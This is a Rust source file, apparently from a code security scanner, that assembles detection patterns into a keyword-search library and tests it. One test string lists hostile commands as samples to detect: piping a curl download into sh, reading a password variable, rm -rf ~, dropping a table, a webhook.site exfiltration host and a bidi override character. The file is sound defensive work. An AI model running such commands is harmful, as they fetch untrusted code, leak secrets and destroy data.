//! All patterns of a run, behind one search for their keywords.

use std::collections::HashSet;

use crate::pattern::starts::Starts;
use crate::pattern::written::BUILT_IN;
use crate::pattern::{Pattern, file};
use crate::subject::segment::Role;

/// The roles of texts that read as they are written; what is folded never does.
pub const SEARCHED: [Role; 4] = [Role::Code, Role::Comment, Role::String, Role::Prose];

/// All patterns of a run.
#[derive(Debug)]
pub struct Library {
    patterns: Vec<Pattern>,
    /// For each pattern, which of the `SEARCHED` it searches.
    searches: Vec<[bool; SEARCHED.len()]>,
    /// The patterns that have no keywords and are tried on every text; only those of analyzers.
    unkeyed: Vec<u32>,
    /// Where the keywords may stand.
    starts: Starts,
    /// The keywords by number, each as its pattern and its place in it.
    keywords: Vec<(u32, u32)>,
}

/// Why patterns do not make a library.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum LibraryError {
    /// Two rules have the same id.
    #[error("two rules have the id `{0}`")]
    DuplicateId(String),
}

impl Library {
    /// The built-in patterns, and those of the user.
    ///
    /// # Errors
    ///
    /// When two patterns have the same id.
    pub fn new(user: Vec<Pattern>) -> Result<Self, LibraryError> {
        let mut patterns: Vec<Pattern> = BUILT_IN.iter().map(file::built_in).collect();
        patterns.extend(user);
        Self::of(patterns)
    }

    /// A library of exactly these patterns.
    ///
    /// # Errors
    ///
    /// As `new`.
    pub fn of(patterns: Vec<Pattern>) -> Result<Self, LibraryError> {
        let mut ids = HashSet::new();
        if let Some(twice) = patterns.iter().find(|pattern| !ids.insert(pattern.rule.id.as_ref())) {
            return Err(LibraryError::DuplicateId(twice.rule.id.to_string()));
        }
        let searches = patterns.iter().map(|pattern| SEARCHED.map(|role| pattern.searches(role))).collect();
        let unkeyed = (0_u32..).zip(&patterns).filter(|(_, pattern)| pattern.keywords.is_empty()).map(|(index, _)| index).collect();
        let places = |(index, pattern): (u32, &Pattern)| (0..pattern.keywords.len() as u32).map(move |at| (index, at));
        let keywords: Vec<(u32, u32)> = (0_u32..).zip(&patterns).flat_map(places).collect();
        let all = patterns.iter().flat_map(|pattern| pattern.keywords.iter().map(str::as_bytes));
        let starts = Starts::of(all.zip(0_u32..));
        Ok(Self { patterns, searches, unkeyed, starts, keywords })
    }

    /// All patterns, the built-in ones first.
    pub fn patterns(&self) -> &[Pattern] {
        &self.patterns
    }

    /// Version of the library: changes whenever the id, a severity, an action or the regex of a pattern does.
    pub fn version(&self) -> String {
        // FNV-1a with 64 bits: the version tells libraries apart, it does not guard them.
        let mut hash = 0xcbf2_9ce4_8422_2325_u64;
        for pattern in &self.patterns {
            let grades = pattern.by_kind.iter().flat_map(|grade| {
                let modules = if grade.modules { "modules" } else { "" };
                grade.kinds.iter().map(|kind| kind.name()).chain([modules, grade.severity.name(), grade.action.name()])
            });
            for part in
                grades.chain([pattern.rule.id.as_ref(), pattern.rule.severity.name(), pattern.rule.action.name(), &pattern.find, "\0"])
            {
                hash = part.bytes().fold(hash, |hash, byte| (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3));
            }
        }
        format!("{hash:016x}")
    }

    /// For each pattern, which of the `SEARCHED` it searches.
    pub fn searches(&self) -> &[[bool; SEARCHED.len()]] {
        &self.searches
    }

    /// The patterns that are tried on every text.
    pub fn unkeyed(&self) -> &[u32] {
        &self.unkeyed
    }

    /// Calls `seen` with each pattern whose keyword stands in the text, and the keyword's first byte.
    pub fn keywords_in(&self, text: &str, mut seen: impl FnMut(u32, usize)) {
        let bytes = text.as_bytes();
        self.starts.search(bytes, |number, at| {
            let Some((index, place)) = self.keywords.get(number as usize).copied() else { return };
            let keyword = self.patterns.get(index as usize).and_then(|pattern| pattern.keywords.get(place as usize));
            if keyword.is_some_and(|keyword| stands_at(bytes, at, keyword)) {
                seen(index, at);
            }
        });
    }
}

/// Returns true if and only if a word stands at a place, in any case.
fn stands_at(bytes: &[u8], at: usize, word: &str) -> bool {
    bytes.get(at..at + word.len()).is_some_and(|there| there.eq_ignore_ascii_case(word.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pattern::examples::broken;

    #[test]
    fn every_built_in_pattern_holds_its_examples() {
        let library = Library::new(Vec::new()).expect("the built-in patterns make a library");
        let broken: Vec<_> = library.patterns().iter().flat_map(broken).collect();
        assert!(broken.is_empty(), "{broken:#?}");
        for pattern in library.patterns() {
            assert!(pattern.regex().is_some(), "{} does not compile", pattern.rule.id);
            assert!(!pattern.examples.hit.is_empty() && 2 <= pattern.examples.miss.len(), "{} needs examples", pattern.rule.id);
        }
    }

    #[test]
    fn every_keyword_that_stands_in_a_text_is_seen() {
        let library = Library::new(Vec::new()).expect("the built-in patterns make a library");
        let text = "CURL https://x | sh; process.env.PASSWORD; rm -rf ~; drop table x; webhook.site \u{202e}";
        let mut seen = Vec::new();
        library.keywords_in(text, |pattern, at| seen.push((pattern, at)));
        let lower = text.to_ascii_lowercase();
        let stands = |(index, pattern): (u32, &Pattern)| -> Vec<(u32, usize)> {
            pattern.keywords.iter().flat_map(|keyword| lower.match_indices(keyword)).map(|(at, _)| (index, at)).collect()
        };
        let mut expected: Vec<(u32, usize)> = (0_u32..).zip(library.patterns()).flat_map(stands).collect();
        seen.sort_unstable();
        expected.sort_unstable();
        assert_eq!(seen, expected);
        assert!(10 < seen.len());
    }

    #[test]
    fn ids_are_unique() {
        let twice = BUILT_IN.iter().chain(BUILT_IN.first()).map(file::built_in).collect();
        assert!(matches!(Library::of(twice), Err(LibraryError::DuplicateId(_))));
    }
}
